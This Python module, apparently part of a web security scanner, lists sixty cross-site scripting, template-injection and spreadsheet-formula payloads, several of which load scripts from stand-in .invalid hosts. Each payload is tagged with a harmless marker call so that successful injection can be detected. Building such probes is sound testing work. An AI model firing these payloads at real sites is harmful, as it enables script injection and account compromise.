"""Sixty texts that would run as a script if a page took them for markup or code (bar 48).

Each calls `ran(number)`, asks a host `ran-number.invalid`, or is worked out as a template. They are
written for the places in which a page puts a text: between tags, in an attribute, in a script's
string, in JSON, in an address, in a template, in a file that a spreadsheet opens.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence

# § is the payload's number
_BETWEEN_TAGS = (
    "<script>ran(§)</script>",
    "<ScRiPt>ran(§)</sCrIpT>",
    "<scr<script>ipt>ran(§)</scr</script>ipt>",
    "<<script>ran(§)//<</script>",
    "<script src=//ran-§.invalid/x.js></script>",
    "<img src=x onerror=ran(§)>",
    "<img/src=x/onerror=ran(§)//",
    '<img src=x onerror="&#114;an(§)">',
    "<svg onload=ran(§)>",
    "<svg><script>ran(§)</script></svg>",
    "<svg><animate onbegin=ran(§) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:ran(§)><text y=9>x</text></a></svg>",
    "<math><mtext><img src=x onerror=ran(§)></mtext></math>",
    "<body onload=ran(§)>",
    "<details open ontoggle=ran(§)>x</details>",
    "<input autofocus onfocus=ran(§)>",
    "<video src=x onerror=ran(§)></video>",
    "<marquee onstart=ran(§)>x</marquee>",
    '<iframe srcdoc="<script>parent.ran(§)</script>"></iframe>',
    "<iframe src=javascript:parent.ran(§)></iframe>",
    "<object data=javascript:ran(§)></object>",
    "<embed src=javascript:ran(§)>",
    "<base href=//ran-§.invalid/>",
    "<link rel=stylesheet href=//ran-§.invalid/x.css>",
    "<style>@import '//ran-§.invalid/x.css';</style>",
    '<meta http-equiv=refresh content="0;url=javascript:ran(§)">',
    "<form action=javascript:ran(§)><button>x</button></form>",
    "<a href=javascript:ran(§)>x</a>",
)
_OUT_OF_AN_ATTRIBUTE = (
    '"><script>ran(§)</script>',
    "'><svg/onload=ran(§)>",
    '" onmouseover="ran(§)',
    "' autofocus onfocus='ran(§)",
    "` onmouseover=ran(§) `",
    "x onerror=ran(§)",
    '" style="animation-name:x" onanimationstart="ran(§)',
    '" hx-get="/help/" hx-trigger="load" hx-on::load="ran(§)',
    '" data-hx-on:click="ran(§)',
)
_OUT_OF_A_CONTEXT = (
    "</script><script>ran(§)</script>",
    "</textarea><img src=x onerror=ran(§)>",
    "</title><script>ran(§)</script>",
    "</option></select><img src=x onerror=ran(§)>",
    "</template><script>ran(§)</script>",
    '<noscript><p title="</noscript><img src=x onerror=ran(§)>">',
    "--><script>ran(§)</script>",
    "';ran(§);//",
    '\\";ran(§);//',
    "\\u003cimg src=x onerror=ran(§)\\u003e",
    '{"__proto__":{"x":"<img src=x onerror=ran(§)>"}}',
)
_WORKED_OUT = (
    "${ran(§)}",
    "{{constructor.constructor('ran(§)')()}}",
    "{{71237*31}}${71237*31}<%= 71237*31 %>#{71237*31}{% debug %}",
)
_ADDRESSES = (
    "javascript:ran(§)//",
    "java\tscript:ran(§)",
    "data:text/html,<script>ran(§)</script>",
)
_DISGUISED = (
    "＜script＞ran(§)＜/script＞",  # wide letters, which some programs make narrow
    "\u202e<img src=x onerror=ran(§)>",
    "&lt;img src=x onerror=ran(§)&gt;",
    "%3Cimg src=x onerror=ran(§)%3E",
    "+ADw-script+AD4-ran(§)+ADw-/script+AD4-",
)
_CELLS = ('=HYPERLINK("javascript:ran(§)","x")',)
_ALL = (
    *_BETWEEN_TAGS, *_OUT_OF_AN_ATTRIBUTE, *_OUT_OF_A_CONTEXT, *_WORKED_OUT, *_ADDRESSES,
    *_DISGUISED, *_CELLS,
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    text.replace("§", str(number)) for number, text in enumerate(_ALL, 1)
)
# what a template engine would make of 71237*31; it stands in no page otherwise
WORKED_OUT = "2208347"
# One each of the four ways out of a text, for the run at small size.
FEW = tuple(
    text
    for text in PAYLOADS
    if text.startswith(('" onmouseover', "</script>", "<img src=x onerror=ran", "{{71237"))
)
# For texts too short for any payload: what would open or close a tag or a string.
BREAKER = "\"'<>"


def windows(size: int) -> Iterator[Sequence[str]]:
    """All payloads, so many at a time."""
    for first in range(0, len(PAYLOADS), size):
        yield PAYLOADS[first : first + size]


def fitted(payloads: Sequence[str], first: int, most: int | None) -> str:
    """As many payloads as fit into so many characters, beginning with one of them."""
    turned = [payloads[(first + nth) % len(payloads)] for nth in range(len(payloads))]
    if most is None:
        return " ".join(turned)
    text = ""
    for payload in turned:
        longer = f"{text} {payload}" if text else payload
        text = longer if len(longer) <= most else text
    return text or BREAKER[:most]
